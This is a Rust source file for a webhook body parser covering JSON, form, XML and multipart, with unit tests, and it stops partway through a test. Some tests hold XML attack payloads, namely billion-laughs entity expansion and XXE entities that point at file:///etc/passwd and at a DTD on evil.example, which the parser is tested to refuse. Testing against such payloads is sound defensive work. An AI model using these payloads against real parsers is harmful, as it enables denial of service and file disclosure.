//! Request bodies: parse the raw bytes of a webhook into the JSON-like `event.body` by content type.

use std::fmt::Display;

use quick_xml::escape::{EscapeError, resolve_xml_entity};
use quick_xml::events::{BytesStart, Event};
use quick_xml::{Reader, XmlVersion};
use serde_json::{Map, Value};

pub use crate::workflow::XmlMode;

/// Limits applied while parsing a body, so a hostile payload cannot exhaust the stack or memory.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BodyLimits {
    /// Deepest nesting accepted: JSON arrays/objects, or XML elements (the root counts as 1).
    /// JSON deeper than 127 levels is refused by serde_json whatever this says.
    pub max_depth: usize,
}

impl Default for BodyLimits {
    fn default() -> Self {
        Self { max_depth: 64 }
    }
}

/// How a body is parsed, decided by its media type.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BodyKind {
    Json,
    Form,
    Xml,
    /// `multipart/form-data`: the text fields; the files are `event.files`.
    Multipart,
    Text,
}

/// Why a body was refused. `Display` is short and safe to send back in a 400 answer.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum BodyError {
    #[error("invalid JSON at line {line}, column {column}: {reason}")]
    Json {
        line: usize,
        column: usize,
        reason: String,
    },
    #[error("JSON nested deeper than {max_depth} levels")]
    JsonTooDeep { max_depth: usize },
    #[error("invalid form body: {0}")]
    Form(String),
    #[error("invalid XML at line {line}, column {column}: {reason}")]
    Xml {
        line: usize,
        column: usize,
        reason: String,
    },
    #[error("invalid multipart body: {0}")]
    Multipart(#[from] crate::run::multipart::MultipartError),
    #[error("XML entity declarations are not allowed")]
    XmlEntityDeclaration,
    #[error("XML nested deeper than {max_depth} levels")]
    XmlTooDeep { max_depth: usize },
}

/// Picks the parser for a `Content-Type` header value; unknown or missing types are text.
pub fn body_kind(content_type: Option<&str>) -> BodyKind {
    let Some(content_type) = content_type else {
        return BodyKind::Text;
    };
    let essence = content_type
        .split_once(';')
        .map_or(content_type, |(media_type, _params)| media_type)
        .trim()
        .to_ascii_lowercase();
    let Some((kind, subtype)) = essence.split_once('/') else {
        return BodyKind::Text;
    };
    match (kind, subtype) {
        ("application" | "text", "json") => BodyKind::Json,
        ("application", "x-www-form-urlencoded") => BodyKind::Form,
        ("application" | "text", "xml") => BodyKind::Xml,
        ("multipart", "form-data") => BodyKind::Multipart,
        _ if !kind.is_empty() && subtype.ends_with("+json") => BodyKind::Json,
        _ if !kind.is_empty() && subtype.ends_with("+xml") => BodyKind::Xml,
        _ => BodyKind::Text,
    }
}

/// Parses a webhook body into the value templates see as `event.body`; `xml` is the webhook's
/// `xml` mode.
pub fn parse_body(
    content_type: Option<&str>,
    raw: &[u8],
    limits: &BodyLimits,
    xml: XmlMode,
) -> Result<Value, BodyError> {
    if raw.is_empty() {
        return Ok(Value::Null);
    }
    match body_kind(content_type) {
        BodyKind::Json => parse_json(raw, limits),
        BodyKind::Form => parse_form(raw),
        BodyKind::Xml => parse_xml(raw, limits, xml),
        BodyKind::Multipart => {
            let content_type = content_type.unwrap_or_default();
            let parts = crate::run::multipart::parts(content_type, raw)?;
            Ok(Value::Object(crate::run::multipart::fields(&parts)))
        }
        BodyKind::Text => Ok(Value::String(String::from_utf8_lossy(raw).into_owned())),
    }
}

fn parse_json(raw: &[u8], limits: &BodyLimits) -> Result<Value, BodyError> {
    let too_deep = || BodyError::JsonTooDeep {
        max_depth: limits.max_depth,
    };
    // serde_json refuses more than 128 levels by itself (an error, not a deep stack), so a
    // hostile `[[[[...` is safe to parse; the lower limit is then checked on the parsed value,
    // which has far fewer nodes than the body has bytes. Only a body that failed to parse is
    // scanned byte by byte, to tell "too deep" from a syntax error.
    match serde_json::from_slice(raw) {
        Ok(value) if value_nesting_exceeds(&value, limits.max_depth) => Err(too_deep()),
        Ok(value) => Ok(value),
        Err(_) if json_nesting_exceeds(raw, limits.max_depth) => Err(too_deep()),
        Err(err) => Err(json_syntax_error(&err)),
    }
}

/// Whether arrays and objects nest more than `max_depth` levels in `value`.
fn value_nesting_exceeds(value: &Value, max_depth: usize) -> bool {
    // Only called below once `max_depth` is known not to be 0.
    let deeper = |child: &Value| value_nesting_exceeds(child, max_depth - 1);
    match value {
        Value::Array(items) => max_depth == 0 || items.iter().any(deeper),
        Value::Object(members) => max_depth == 0 || members.values().any(deeper),
        _ => false,
    }
}

fn json_syntax_error(err: &serde_json::Error) -> BodyError {
    // serde_json appends the position to its message; it is reported separately.
    let full = err.to_string();
    let suffix = format!(" at line {} column {}", err.line(), err.column());
    let reason = full.strip_suffix(&suffix).unwrap_or(&full).to_owned();
    BodyError::Json {
        line: err.line(),
        column: err.column(),
        reason,
    }
}

/// Over-approximates nesting on possibly malformed input; the real parser judges syntax.
fn json_nesting_exceeds(raw: &[u8], max_depth: usize) -> bool {
    let mut depth = 0usize;
    let mut in_string = false;
    let mut escaped = false;
    for &byte in raw {
        if in_string {
            if escaped {
                escaped = false;
            } else if byte == b'\\' {
                escaped = true;
            } else if byte == b'"' {
                in_string = false;
            }
            continue;
        }
        match byte {
            b'"' => in_string = true,
            b'[' | b'{' => {
                depth += 1;
                if depth > max_depth {
                    return true;
                }
            }
            b']' | b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    false
}

fn parse_form(raw: &[u8]) -> Result<Value, BodyError> {
    let pairs: Vec<(String, String)> =
        serde_urlencoded::from_bytes(raw).map_err(|err| BodyError::Form(err.to_string()))?;
    let mut fields = Map::new();
    for (key, value) in pairs {
        insert_repeatable(&mut fields, key, Value::String(value));
    }
    Ok(Value::Object(fields))
}

/// A key seen once keeps a scalar; a repeated key turns into an array in arrival order.
/// Callers only insert non-array values, so an existing array always means "repeated".
fn insert_repeatable(fields: &mut Map<String, Value>, key: String, value: Value) {
    match fields.get_mut(&key) {
        Some(Value::Array(items)) => items.push(value),
        Some(existing) => {
            let first = existing.take();
            *existing = Value::Array(vec![first, value]);
        }
        None => {
            fields.insert(key, value);
        }
    }
}

fn parse_xml(raw: &[u8], limits: &BodyLimits, mode: XmlMode) -> Result<Value, BodyError> {
    // quick-xml (without its `encoding` feature) only reads UTF-8; checking up
    // front gives one clear error instead of a failure at some later event.
    let input = std::str::from_utf8(raw).map_err(|err| {
        xml_error(
            raw,
            offset_u64(err.valid_up_to()),
            "body is not valid UTF-8",
        )
    })?;
    let mut reader = Reader::from_str(input);
    let mut tree = XmlTree {
        raw,
        max_depth: limits.max_depth,
        mode,
        version: XmlVersion::Implicit1_0,
        stack: Vec::new(),
        root: None,
    };
    loop {
        let pos = reader.buffer_position();
        let event = match reader.read_event() {
            Ok(event) => event,
            Err(err) => return Err(xml_error(raw, reader.error_position(), describe(&err))),
        };
        match event {
            Event::Decl(decl) => {
                if tree.started() {
                    return Err(tree.error(pos, "XML declaration after the root element"));
                }
                tree.version = decl
                    .xml_version()
                    .map_err(|err| tree.error(pos, describe(&err)))?;
            }
            Event::DocType(doctype) => {
                // Entities are what make billion-laughs and external-entity (XXE)
                // attacks possible; webhook payloads never need them.
                if contains_ignore_ascii_case(&doctype, "<!ENTITY") {
                    return Err(BodyError::XmlEntityDeclaration);
                }
                if tree.started() {
                    return Err(tree.error(pos, "DOCTYPE after the root element"));
                }
            }
            Event::Start(start) => tree.open(&start, pos)?,
            Event::Empty(start) => {
                tree.open(&start, pos)?;
                tree.close(pos)?;
            }
            Event::End(_) => tree.close(pos)?,
            Event::Text(text) => tree.push_text(pos, &text.xml_content(tree.version), false)?,
            Event::CData(cdata) => tree.push_text(pos, &cdata.xml_content(tree.version), true)?,
            Event::GeneralRef(reference) => {
                let resolved = match reference.resolve_char_ref() {
                    Ok(Some(ch)) => ch.to_string(),
                    Ok(None) => match resolve_xml_entity(&reference) {
                        Some(text) => text.to_owned(),
                        None => {
                            return Err(tree.error(pos, unknown_entity(&reference)));
                        }
                    },
                    Err(err) => return Err(tree.error(pos, describe(&err))),
                };
                tree.push_text(pos, &resolved, true)?;
            }
            Event::Comment(_) | Event::PI(_) => {}
            Event::Eof => return tree.finish(input.len()),
        }
    }
}

/// Builds the JSON tree with an explicit stack, so element depth never becomes Rust recursion.
struct XmlTree<'a> {
    raw: &'a [u8],
    max_depth: usize,
    mode: XmlMode,
    version: XmlVersion,
    stack: Vec<XmlFrame>,
    root: Option<(String, Value)>,
}

struct XmlFrame {
    name: String,
    /// Attributes (`@name`, plain mode only) then child elements, in document order.
    fields: Map<String, Value>,
    /// Significant text so far.
    text: String,
    /// Text since the last child tag; dropped if it turns out to be only indentation.
    run: String,
    /// `xml: typed`: the element's `type` and `nil` attributes; `None` in plain mode.
    typing: Option<Typing>,
    /// The children of a `type="array"` element, in document order.
    items: Vec<Value>,
}

/// What the Rails-style attributes of an element say about its value.
#[derive(Default)]
struct Typing {
    /// `type="integer"`, `"boolean"`, `"array"`, ...
    kind: Option<String>,
    /// `nil="true"`: the value is null, whatever text the element holds (as Rails reads it).
    nil: bool,
}

impl Typing {
    fn is_array(&self) -> bool {
        self.kind.as_deref() == Some("array")
    }
}

impl XmlFrame {
    fn end_run(&mut self) {
        if !is_xml_whitespace(&self.run) {
            self.text.push_str(&self.run);
        }
        self.run.clear();
    }

    fn into_value(mut self) -> (String, Value) {
        self.end_run();
        if let Some(typing) = self.typing.take() {
            let value = typed_value(&typing, self.fields, self.text, self.items);
            return (self.name, value);
        }
        let value = if self.fields.is_empty() {
            if self.text.is_empty() {
                Value::Null
            } else {
                Value::String(self.text)
            }
        } else {
            if !self.text.is_empty() {
                self.fields
                    .insert("#text".to_owned(), Value::String(self.text));
            }
            Value::Object(self.fields)
        };
        (self.name, value)
    }
}

impl XmlTree<'_> {
    fn started(&self) -> bool {
        self.root.is_some() || !self.stack.is_empty()
    }

    fn error(&self, pos: u64, reason: impl Display) -> BodyError {
        xml_error(self.raw, pos, reason)
    }

    fn open(&mut self, start: &BytesStart<'_>, pos: u64) -> Result<(), BodyError> {
        if self.root.is_some() {
            return Err(self.error(pos, "more than one root element"));
        }
        if self.stack.len() >= self.max_depth {
            return Err(BodyError::XmlTooDeep {
                max_depth: self.max_depth,
            });
        }
        let name = start.name().as_ref().to_owned();
        // `@` and `#` mark attributes and text in the output; an element named
        // like that (quick-xml does not validate names) would be ambiguous.
        if name.starts_with(['@', '#']) {
            return Err(self.error(pos, format!("invalid element name `{name}`")));
        }
        let mut fields = Map::new();
        let mut typing = (self.mode == XmlMode::Typed).then(Typing::default);
        for attr in start.attributes() {
            let attr =
                attr.map_err(|err| self.error(pos, describe(&quick_xml::Error::InvalidAttr(err))))?;
            // Only the five predefined entities: pass the resolver explicitly so a
            // crate-wide `escape-html` feature could not widen the set.
            let value = attr
                .normalized_value_with(self.version, 1, resolve_xml_entity)
                .map_err(|err| self.error(pos, describe(&err)))?;
            match &mut typing {
                // Typed mode keeps what `type` and `nil` say and drops every attribute.
                Some(typing) => match attr.key.as_ref() {
                    "type" => typing.kind = Some(value.into_owned()),
                    "nil" => typing.nil = value.trim() == "true",
                    _ => {}
                },
                None => {
                    fields.insert(
                        format!("@{}", attr.key.as_ref()),
                        Value::String(value.into_owned()),
                    );
                }
            }
        }
        if let Some(parent) = self.stack.last_mut() {
            parent.end_run();
        }
        self.stack.push(XmlFrame {
            name,
            fields,
            text: String::new(),
            run: String::new(),
            typing,
            items: Vec::new(),
        });
        Ok(())
    }

    fn close(&mut self, pos: u64) -> Result<(), BodyError> {
        let Some(frame) = self.stack.pop() else {
            return Err(self.error(pos, "closing tag without an open element"));
        };
        let (name, value) = frame.into_value();
        match self.stack.last_mut() {
            Some(parent) if parent.typing.as_ref().is_some_and(Typing::is_array) => {
                parent.items.push(value);
            }
            Some(parent) => insert_repeatable(&mut parent.fields, name, value),
            None => self.root = Some((name, value)),
        }
        Ok(())
    }

    /// `content` marks data that is never mere formatting (CDATA, references),
    /// which is therefore not allowed outside the root element either.
    fn push_text(&mut self, pos: u64, text: &str, content: bool) -> Result<(), BodyError> {
        match self.stack.last_mut() {
            Some(frame) => {
                frame.run.push_str(text);
                Ok(())
            }
            None if !content && is_xml_whitespace(text) => Ok(()),
            None => Err(self.error(pos, "text outside the root element")),
        }
    }

    fn finish(self, end: usize) -> Result<Value, BodyError> {
        if let Some(open) = self.stack.last() {
            return Err(self.error(
                offset_u64(end),
                format!("element `<{}>` is not closed", open.name),
            ));
        }
        match self.root {
            Some((name, value)) => {
                let mut top = Map::new();
                top.insert(name, value);
                Ok(Value::Object(top))
            }
            None => Err(self.error(offset_u64(end), "no root element")),
        }
    }
}

/// An element's value under `xml: typed`, as Rails' `Hash.from_xml` reads it: `nil="true"` is
/// null, `type="array"` the list of its children, numbers and booleans their values; text
/// that does not read as its type stays text rather than being lost.
fn typed_value(
    typing: &Typing,
    mut fields: Map<String, Value>,
    text: String,
    items: Vec<Value>,
) -> Value {
    if typing.nil {
        return Value::Null;
    }
    if typing.is_array() {
        return Value::Array(items);
    }
    if !fields.is_empty() {
        if !text.is_empty() {
            fields.insert("#text".to_owned(), Value::String(text));
        }
        return Value::Object(fields);
    }
    let trimmed = text.trim();
    let typed = match typing.kind.as_deref() {
        Some("integer") => trimmed
            .parse::<i64>()
            .map(Value::from)
            .or_else(|_| trimmed.parse::<u64>().map(Value::from))
            .ok(),
        Some("float" | "decimal" | "double") => trimmed
            .parse::<f64>()
            .ok()
            .and_then(serde_json::Number::from_f64)
            .map(Value::Number),
        Some("boolean") => match trimmed {
            "true" | "1" => Some(Value::Bool(true)),
            "false" | "0" => Some(Value::Bool(false)),
            _ => None,
        },
        Some("string") => Some(Value::String(text.clone())),
        _ => None,
    };
    match typed {
        Some(value) => value,
        None if text.is_empty() => Value::Null,
        None => Value::String(text),
    }
}

fn is_xml_whitespace(text: &str) -> bool {
    text.bytes()
        .all(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
}

fn contains_ignore_ascii_case(haystack: &str, needle: &str) -> bool {
    haystack
        .as_bytes()
        .windows(needle.len())
        .any(|window| window.eq_ignore_ascii_case(needle.as_bytes()))
}

fn unknown_entity(name: &str) -> String {
    format!("unknown entity reference `&{name};`")
}

/// quick-xml's escape messages carry internal byte ranges; say it plainly instead.
fn describe(err: &quick_xml::Error) -> String {
    match err {
        quick_xml::Error::Escape(EscapeError::UnrecognizedEntity(_, name)) => unknown_entity(name),
        other => other.to_string(),
    }
}

fn offset_u64(offset: usize) -> u64 {
    u64::try_from(offset).unwrap_or(u64::MAX)
}

/// Reports a byte offset as a 1-based line and column (columns count characters).
fn xml_error(raw: &[u8], offset: u64, reason: impl Display) -> BodyError {
    let before = usize::try_from(offset)
        .ok()
        .and_then(|end| raw.get(..end))
        .unwrap_or(raw);
    let line = before.iter().filter(|&&b| b == b'\n').count() + 1;
    let line_text = before.rsplit(|&b| b == b'\n').next().unwrap_or_default();
    // Count UTF-8 lead bytes only, so a multi-byte character is one column.
    let column = line_text.iter().filter(|&&b| (b & 0xC0) != 0x80).count() + 1;
    BodyError::Xml {
        line,
        column,
        reason: reason.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const JSON: Option<&str> = Some("application/json");
    const FORM: Option<&str> = Some("application/x-www-form-urlencoded");
    const XML: Option<&str> = Some("application/xml");

    fn fixture(path: &str) -> Vec<u8> {
        let full = format!("{}/tests/fixtures/{path}", env!("CARGO_MANIFEST_DIR"));
        std::fs::read(&full).unwrap_or_else(|err| panic!("reading {full}: {err}"))
    }

    fn parse(content_type: Option<&str>, raw: &[u8]) -> Result<Value, BodyError> {
        parse_body(content_type, raw, &BodyLimits::default(), XmlMode::Plain)
    }

    fn xml(raw: &str) -> Value {
        parse(XML, raw.as_bytes()).unwrap_or_else(|err| panic!("{raw}: {err}"))
    }

    fn xml_err(raw: &str) -> BodyError {
        match parse(XML, raw.as_bytes()) {
            Ok(value) => panic!("{raw} parsed as {value}"),
            Err(err) => err,
        }
    }

    #[test]
    fn github_push_json() {
        let raw = fixture("github/push.json");
        let body = parse(JSON, &raw).unwrap();
        assert_eq!(body["ref"], "refs/heads/master");
        assert_eq!(
            body["commits"][0]["id"],
            "6113728f27ae82c7b1a177c8d03f9e96e0adf246"
        );
        assert_eq!(body["repository"]["full_name"], "Codertocat/Hello-World");
        // preserve_order: keys come out as GitHub sent them.
        let keys: Vec<&String> = body.as_object().unwrap().keys().take(3).collect();
        assert_eq!(keys, ["ref", "before", "after"]);
    }

    #[test]
    fn twilio_form() {
        let raw = fixture("twilio/sms.incoming.txt");
        let body = parse(FORM, &raw).unwrap();
        assert_eq!(body["Body"], "twilio-go testing!");
        assert_eq!(body["From"], "+19253920364");
        assert_eq!(body["NumMedia"], "0");
        assert_eq!(body["ApiVersion"], "2010-04-01");
        let fields = body.as_object().unwrap();
        assert_eq!(fields.len(), 19);
        assert_eq!(fields.keys().next().unwrap(), "ToCountry");
    }

    #[test]
    fn recurly_successful_payment_xml() {
        let raw = fixture("recurly/successful_payment_notification.xml");
        let body = parse(Some("application/xml; charset=utf-8"), &raw).unwrap();
        let root = &body["successful_payment_notification"];
        assert_eq!(body.as_object().unwrap().len(), 1);
        assert_eq!(root["account"]["account_code"], "1");
        assert_eq!(root["account"]["email"], "verena@example.com");
        assert_eq!(
            root["account"]["username"],
            json!({"@nil": "true", "#text": "verena"})
        );
        let transaction = &root["transaction"];
        assert_eq!(transaction["id"], "a5143c1d3a6f4a8287d0e2cc1d4c0427");
        assert_eq!(
            transaction["amount_in_cents"],
            json!({"@type": "integer", "#text": "1000"})
        );
        assert_eq!(
            transaction["test"],
            json!({"@type": "boolean", "#text": "true"})
        );
        assert_eq!(transaction["message"], "Bogus Gateway: Forced success");
    }

    fn typed(raw: &[u8]) -> Value {
        parse_body(XML, raw, &BodyLimits::default(), XmlMode::Typed)
            .unwrap_or_else(|err| panic!("{}: {err}", String::from_utf8_lossy(raw)))
    }

    #[test]
    fn typed_recurly_payment_reads_numbers_booleans_and_nil_as_values() {
        let body = typed(&fixture("recurly/successful_payment_notification.xml"));
        let root = &body["successful_payment_notification"];
        // `nil="true"` is null even with text inside, as Rails (Recurly's side) reads it.
        assert_eq!(root["account"]["username"], Value::Null);
        assert_eq!(root["account"]["company_name"], Value::Null);
        assert_eq!(root["account"]["email"], "verena@example.com");
        let transaction = &root["transaction"];
        assert_eq!(transaction["amount_in_cents"], json!(1000));
        assert_eq!(transaction["invoice_number"], json!(2059));
        assert_eq!(transaction["test"], json!(true));
        assert_eq!(transaction["voidable"], json!(true));
        assert_eq!(transaction["date"], "2009-11-22T13:10:38Z");
        assert_eq!(transaction["id"], "a5143c1d3a6f4a8287d0e2cc1d4c0427");
        // Attributes are gone: nothing is keyed `@type` or `#text` any more.
        assert!(!body.to_string().contains("\"@"), "{body}");
        assert!(!body.to_string().contains("#text"), "{body}");
    }

    #[test]
    fn typed_recurly_subscription_reads_empty_arrays_and_nil_dates() {
        let body = typed(&fixture("recurly/new_subscription_notification.xml"));
        let subscription = &body["new_subscription_notification"]["subscription"];
        assert_eq!(subscription["quantity"], json!(2));
        assert_eq!(subscription["total_amount_in_cents"], json!(17000));
        assert_eq!(subscription["subscription_add_ons"], json!([]));
        assert_eq!(subscription["trial_started_at"], Value::Null);
        assert_eq!(subscription["activated_at"], "2010-09-23T22:05:03Z");
        assert_eq!(subscription["plan"]["plan_code"], "bronze");
    }

    #[test]
    fn typed_arrays_keep_their_children_in_order_and_odd_text_stays_text() {
        let body = typed(
            br#"<r id="9">
              <add_ons type="array">
                <add_on><code>a</code><unit_amount_in_cents type="integer">250</unit_amount_in_cents></add_on>
                <add_on><code>b</code></add_on>
              </add_ons>
              <one type="array"><n type="integer">1</n></one>
              <nested type="array"><row type="array"><n type="integer">1</n><n type="integer">2</n></row></nested>
              <rate type="decimal">12.50</rate>
              <ratio type="float">-0.25</ratio>
              <big type="integer">18446744073709551615</big>
              <odd type="integer">n/a</odd>
              <off type="boolean">false</off>
              <empty type="string"></empty>
              <none/>
            </r>"#,
        );
        assert_eq!(
            body,
            json!({"r": {
                "add_ons": [
                    {"code": "a", "unit_amount_in_cents": 250},
                    {"code": "b"}
                ],
                "one": [1],
                "nested": [[1, 2]],
                "rate": 12.5,
                "ratio": -0.25,
                "big": 18446744073709551615u64,
                "odd": "n/a",
                "off": false,
                "empty": "",
                "none": null
            }})
        );
        // The same body without `typed` is as before: attributes and text as written.
        let plain = xml(r#"<r><n type="integer">1</n></r>"#);
        assert_eq!(
            plain,
            json!({"r": {"n": {"@type": "integer", "#text": "1"}}})
        );
    }

    #[test]
    fn recurly_new_subscription_xml() {
        let raw = fixture("recurly/new_subscription_notification.xml");
        let body = parse(Some("text/xml"), &raw).unwrap();
        let root = &body["new_subscription_notification"];
        assert_eq!(root["account"]["account_code"], "1");
        assert_eq!(root["account"]["username"], json!({"@nil": "true"}));
        assert_eq!(root["account"]["company_name"], json!({"@nil": "true"}));
        let subscription = &root["subscription"];
        assert_eq!(subscription["plan"]["plan_code"], "bronze");
        assert_eq!(subscription["plan"]["name"], "Bronze Plan");
        assert_eq!(
            subscription["quantity"],
            json!({"@type": "integer", "#text": "2"})
        );
        assert_eq!(
            subscription["trial_started_at"],
            json!({"@nil": "true", "@type": "datetime"})
        );
        assert_eq!(
            subscription["subscription_add_ons"],
            json!({"@type": "array"})
        );
        assert_eq!(subscription["collection_method"], "automatic");
    }

    #[test]
    fn repeated_form_keys_become_arrays() {
        let body = parse(FORM, b"tag=a&single=x%20y&tag=b&empty=&tag=c+d").unwrap();
        assert_eq!(
            body,
            json!({"tag": ["a", "b", "c d"], "single": "x y", "empty": ""})
        );
        let keys: Vec<&String> = body.as_object().unwrap().keys().collect();
        assert_eq!(keys, ["tag", "single", "empty"]);
    }

    #[test]
    fn repeated_xml_children_become_arrays() {
        let body = xml(
            "<order id=\"7\">\n  <item sku=\"a\">first</item>\n  <note/>\n  <item>second</item>\n  <item/>\n</order>",
        );
        assert_eq!(
            body,
            json!({"order": {
                "@id": "7",
                "item": [{"@sku": "a", "#text": "first"}, "second", null],
                "note": null,
            }})
        );
    }

    #[test]
    fn content_types() {
        let cases = [
            (Some("application/json"), BodyKind::Json),
            (Some("application/json; charset=utf-8"), BodyKind::Json),
            (Some(" Application/JSON ;charset=UTF-8"), BodyKind::Json),
            (Some("text/json"), BodyKind::Json),
            (Some("application/vnd.foo+json"), BodyKind::Json),
            (
                Some("application/vnd.github+json; charset=utf-8"),
                BodyKind::Json,
            ),
            (Some("application/x-www-form-urlencoded"), BodyKind::Form),
            (
                Some("application/x-www-form-urlencoded; charset=UTF-8"),
                BodyKind::Form,
            ),
            (Some("application/xml"), BodyKind::Xml),
            (Some("TEXT/XML; charset=iso-8859-1"), BodyKind::Xml),
            (Some("application/soap+xml"), BodyKind::Xml),
            (Some("text/plain"), BodyKind::Text),
            (Some("multipart/form-data; boundary=x"), BodyKind::Multipart),
            (Some("application/jsonp"), BodyKind::Text),
            (Some("json"), BodyKind::Text),
            (Some(""), BodyKind::Text),
            (None, BodyKind::Text),
        ];
        for (content_type, kind) in cases {
            assert_eq!(body_kind(content_type), kind, "{content_type:?}");
        }
        let body = parse(
            Some("application/vnd.foo+json; charset=utf-8"),
            br#"{"a":[1,2]}"#,
        );
        assert_eq!(body.unwrap(), json!({"a": [1, 2]}));
    }

    #[test]
    fn empty_body_is_null() {
        for content_type in [JSON, FORM, XML, Some("text/plain"), None] {
            assert_eq!(parse(content_type, b"").unwrap(), Value::Null);
        }
    }

    #[test]
    fn invalid_json_reports_line_and_column() {
        let err = parse(JSON, br#"{"a": }"#).unwrap_err();
        assert_eq!(
            err.to_string(),
            "invalid JSON at line 1, column 7: expected value"
        );
        let err = parse(JSON, b"{\n  \"a\": 1,\n  \"b\" 2\n}").unwrap_err();
        assert!(
            matches!(
                err,
                BodyError::Json {
                    line: 3,
                    column: 7,
                    ..
                }
            ),
            "{err:?}"
        );
    }

    #[test]
    fn deep_json_refused() {
        let nested = |depth: usize| format!("{}{}", "[".repeat(depth), "]".repeat(depth));
        let err = parse(JSON, nested(100).as_bytes()).unwrap_err();
        assert_eq!(err, BodyError::JsonTooDeep { max_depth: 64 });
        assert_eq!(err.to_string(), "JSON nested deeper than 64 levels");
        assert!(parse(JSON, nested(64).as_bytes()).is_ok());
        // Unbalanced and huge: must be refused by the pre-scan, not overflow the stack.
        let hostile = "[".repeat(100_000);
        assert_eq!(
            parse(JSON, hostile.as_bytes()).unwrap_err(),
            BodyError::JsonTooDeep { max_depth: 64 }
        );
        let objects = format!("{}1{}", r#"{"a":"#.repeat(65), "}".repeat(65));
        assert!(parse(JSON, objects.as_bytes()).is_err());
        let limits = BodyLimits { max_depth: 2 };
        assert!(parse_body(JSON, b"[[1]]", &limits, XmlMode::Plain).is_ok());
        assert!(parse_body(JSON, b"[[[1]]]", &limits, XmlMode::Plain).is_err());
    }

    #[test]
    fn brackets_inside_json_strings_not_counted() {
        let deep = "[{".repeat(500);
        let raw = format!(r#"{{"s": "{deep}", "t": "quote \" then [[[[[[ and \\", "u": [1]}}"#);
        let body = parse(JSON, raw.as_bytes()).unwrap();
        assert_eq!(body["s"], deep.as_str());
        assert_eq!(body["t"], "quote \" then [[[[[[ and \\");
        assert_eq!(body["u"], json!([1]));
    }

    #[test]
    fn billion_laughs_refused() {
        let raw = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"#;
        let err = xml_err(raw);
        assert_eq!(err, BodyError::XmlEntityDeclaration);
        assert_eq!(err.to_string(), "XML entity declarations are not allowed");
    }

    #[test]
    fn external_entity_refused() {
        let err = xml_err(r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>"#);
        assert_eq!(err, BodyError::XmlEntityDeclaration);
        let err =
            xml_err(r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>"#);
        assert_eq!(err, BodyError::XmlEntityDeclaration);
    }

    #[test]
    fn unknown_entity_refused() {
        let err = xml_err("<x>a &nbsp; b</x>");
        assert_eq!(
            err.to_string(),
            "invalid XML at line 1, column 6: unknown entity reference `&nbsp;`"
        );
        let err = xml_err(r#"<x a="&e;"/>"#);
        assert!(
            err.to_string().contains("unknown entity reference `&e;`"),
            "{err}"
        );
        // An external DTD is never fetched, so its entities stay unknown.
        let err = xml_err(r#"<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x>&e;</x>"#);
        assert!(err.to_string().contains("`&e;`"), "{err}");
    }

    #[test]
    fn predefined_and_numeric_entities_decoded() {
        assert_eq!(
            xml("<x>&amp;&#65;&#x42;&lt;&gt;&quot;&apos;</x>"),
            json!({"x": "&AB<>\"'"})
        );
        assert_eq!(
            xml(r#"<x a="&lt;&#65;&amp;">fish &amp; chips</x>"#),
            json!({"x": {"@a": "<A&", "#text": "fish & chips"}})
        );
        assert!(
            xml_err("<x>&#0;</x>")
                .to_string()
                .contains("character reference")
        );
    }

    #[test]
    fn xml_mapping() {
        assert_eq!(xml("<a/>"), json!({"a": null}));
        assert_eq!(xml("<a>\n  </a>"), json!({"a": null}));
        assert_eq!(xml("<a>  keep inner  </a>"), json!({"a": "  keep inner  "}));
        assert_eq!(xml("<a><![CDATA[<raw> & ]]></a>"), json!({"a": "<raw> & "}));
        assert_eq!(
            xml("<a>one <b>x</b> two<!-- c --></a>"),
            json!({"a": {"b": "x", "#text": "one  two"}})
        );
        assert_eq!(
            xml("<?xml version=\"1.0\"?>\n<!-- hi -->\n<!DOCTYPE a>\n<a>x</a>\n<?pi?>\n"),
            json!({"a": "x"})
        );
        let soap = r#"<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">
  <soap:Body><m:Ping xmlns:m="urn:x">1</m:Ping></soap:Body>
</soap:Envelope>"#;
        assert_eq!(
            xml(soap),
            json!({"soap:Envelope": {
                "@xmlns:soap": "http://www.w3.org/2003/05/soap-envelope",
                "soap:Body": {"m:Ping": {"@xmlns:m": "urn:x", "#text": "1"}},
            }})
        );
    }

    #[test]
    fn malformed_xml_refused() {
        let err = xml_err("<a>\n  <b></c>\n</a>");
        assert!(
            matches!(&err, BodyError::Xml { line: 2, column: 6, reason } if reason.contains("</b>")),
            "{err:?}"
        );
        assert!(
            xml_err("<a><b></b>")
                .to_string()
                .contains("`<a>` is not closed")
        );
        assert!(
            xml_err("<a/>trailing")
                .to_string()
                .contains("text outside the root")
        );
        assert!(
            xml_err("<a/><b/>")
                .to_string()
                .contains("more than one root")
        );
        assert!(
            xml_err("<!-- only a comment -->")
                .to_string()
                .contains("no root element")
        );
        assert!(
            xml_err("just text")
                .to_string()
                .contains("text outside the root")
        );
        assert!(
            xml_err("<a b=\"1\" b=\"2\"/>")
                .to_string()
                .starts_with("invalid XML")
        );
        let err = parse(XML, b"<a>\xFF</a>").unwrap_err();
        assert_eq!(
            err.to_string(),
            "invalid XML at line 1, column 4: body is not valid UTF-8"
        );
    }

    #[test]
    fn deep_xml_refused() {
        let nested = |depth: usize| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
        assert!(parse(XML, nested(64).as_bytes()).is_ok());
        let err = parse(XML, nested(65).as_bytes()).unwrap_err();
        assert_eq!(err, BodyError::XmlTooDeep { max_depth: 64 });
        assert_eq!(err.to_string(), "XML nested deeper than 64 levels");
        let hostile = "<a>".repeat(100_000);
        assert_eq!(
            parse(XML, hostile.as_bytes()).unwrap_err(),
